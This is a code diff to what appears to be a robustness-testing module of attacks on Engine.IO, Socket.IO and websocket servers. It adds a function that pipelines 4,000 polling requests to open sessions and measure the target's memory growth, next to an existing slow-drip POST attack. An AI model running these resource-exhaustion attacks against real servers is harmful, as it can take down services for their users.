@@ -1,6 +1,7 @@
 """Attacks on what reads Engine.IO, Socket.IO and a websocket's frames."""
 
 import socket
+import threading
 import time
 from contextlib import suppress
 
@@ -100,6 +101,17 @@ def a_dripping_poll(target: Target) -> str | None:
     with connection(target) as made:
         start = head("POST", f"{POLLING}&sid={_polling(made)}", "Content-Length: 60000")
         return dripping(target, made, start, b"4")
+
+
+def thousands_of_polls_that_nobody_goes_on_with(target: Target) -> str | None:
+    """Each opens a session that costs memory; none of them needs a connection."""
+    before = target.bytes
+    with connection(target) as made:
+        reader = threading.Thread(target=answered, args=(made,), daemon=True)
+        reader.start()
+        begin_sending(made, head("GET", POLLING) * 4000 + head("GET", "/healthz", "Connection: close"))
+        reader.join(120)
+        return grown(target, before)
 
 
 def a_client_that_joins_nothing(target: Target) -> str | None:
